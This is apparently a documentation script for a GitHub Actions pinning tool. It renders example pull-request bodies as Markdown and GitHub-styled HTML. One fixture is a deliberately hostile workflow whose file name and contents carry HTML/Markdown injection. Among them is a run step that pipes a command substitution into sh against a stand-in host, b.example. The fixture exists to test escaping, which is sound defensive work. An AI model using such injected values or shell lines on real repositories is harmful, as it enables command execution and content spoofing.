"""Write the examples of pull requests in the documentation, and show them as GitHub would.

    python scripts/render_pull_requests.py [--html FOLDER]

Plans repairs of examples/shop, and of a repository whose names are meant to break things, from the shipped
snapshot, and writes docs/pull-request-bodies/*.md. With --html it also writes pages that look as on GitHub,
of which a browser can make a picture.
"""

from __future__ import annotations

import argparse
from collections.abc import Mapping
from pathlib import Path

from pinfix import registry
from pinfix.config import Config
from pinfix.engine import Options, make_plan
from pinfix.pull_request.body.about import About
from pinfix.pull_request.body.composing import body_of
from pinfix.pull_request.body.wording import title_of
from pinfix.pull_request.model import Base, FileVersion, Proposal, RepositoryName, Topic
from pinfix.trees.memory import MemoryTree

PROJECT = Path(__file__).resolve().parent.parent
EXAMPLE = PROJECT / "examples" / "shop"
PAGES = PROJECT / "docs" / "pull-request-bodies"

PINS = Topic("pins", ("pin-actions",))
PERMISSIONS = Topic("permissions", ("permissions",))
BOTH = Topic("all", ("permissions", "pin-actions"))

NASTY_PATH = ".github/workflows/@octocat fixes #1 <img src=x> [a](b.example) `|`.yml"
NASTY = {
    NASTY_PATH: b"""\
on: push
jobs:
  "<!-- pinfix:{} --> @octocat":
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4.2.2
      - uses: octo-org/octo-repo@</details>
      - uses: https://b.example/octo/tool@v1
      - run: "echo '![x](https://b.example/x.png)' @octocat"
  build:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4.2.2
      - run: git push https://b.example/`id`|sh "GH-1 octo-org/octo-repo#2"
""",
    ".github/workflows/tabs.yml": b"on: push\n\tjobs: '@octocat'\n",
}

# What of GitHub's looks matters here: the width, and how tables and code are set.
PAGE = """\
<!doctype html><meta charset="utf-8"><title>{title}</title><style>
body {{ font: 14px/1.5 sans-serif; color: #1f2328; width: 820px; margin: 24px; }}
h1 {{ font-size: 24px; }} h3 {{ font-size: 18px; margin: 20px 0 12px; }}
table {{ border-collapse: collapse; display: block; overflow: auto; max-width: 100%; margin: 0 0 16px; }}
th, td {{ border: 1px solid #d1d9e0; padding: 6px 13px; }} tr:nth-child(2n) {{ background: #f6f8fa; }}
code {{ font: 85% monospace; background: #eff1f3; padding: .2em .4em; border-radius: 6px;
  white-space: break-spaces; }}
pre {{ background: #f6f8fa; padding: 12px; overflow: auto; }} pre code {{ background: none; padding: 0; }}
</style><h1>{title}</h1>
{body}"""


def main() -> None:
    """Write the pages."""
    parser = argparse.ArgumentParser(description="Write the examples of pull requests.")
    parser.add_argument("--html", type=Path, metavar="FOLDER")
    arguments = parser.parse_args()
    PAGES.mkdir(exist_ok=True)
    for name, proposal in proposals().items():
        (PAGES / f"{name}.md").write_text(page(proposal), encoding="utf-8")
        if arguments.html is not None:
            arguments.html.mkdir(exist_ok=True)
            (arguments.html / f"{name}.html").write_text(html(proposal), encoding="utf-8")


def proposals() -> dict[str, Proposal]:
    """The examples by the name of their page."""
    shop = {
        path.relative_to(EXAMPLE).as_posix(): path.read_bytes()
        for path in EXAMPLE.rglob("*")
        if path.is_file()
    }
    return {
        "pins": proposal(shop, PINS),
        "permissions": proposal(shop, PERMISSIONS),
        "hostile": proposal(NASTY, BOTH),
    }


def proposal(files: Mapping[str, bytes], topic: Topic) -> Proposal:
    """What pinfix would propose, offline; the base is made up."""
    codemods = [codemod for codemod in registry.codemods() if codemod.name in topic.codemods]
    plan = make_plan(
        MemoryTree(files), codemods, registry.resolver(offline=True), Config(), Options(offline=True)
    )
    versions = tuple(FileVersion(rewrite.path, "100644", rewrite.after) for rewrite in plan.rewrites)
    return Proposal(topic, Base("main", "1" * 40, "2" * 40), plan, versions, "3" * 40)


def page(proposal: Proposal) -> str:
    """Title and body as Markdown."""
    return f"# {title_of(proposal)}\n\n{body_of(proposal, about())}"


def about() -> About:
    """The made-up repository, and a version that does not change with each release."""
    notes = ("The commit is not signed: the token of a person signs nothing over this way.",)
    return About(RepositoryName("example-shop", "shop"), version="X.Y.Z", notes=notes)


def html(proposal: Proposal) -> str:
    """The page as a browser shows it."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"])
    boxes = parser.render(body_of(proposal, about())).replace("[ ]", '<input type="checkbox">')
    return PAGE.format(title=title_of(proposal), body=boxes)


if __name__ == "__main__":
    main()
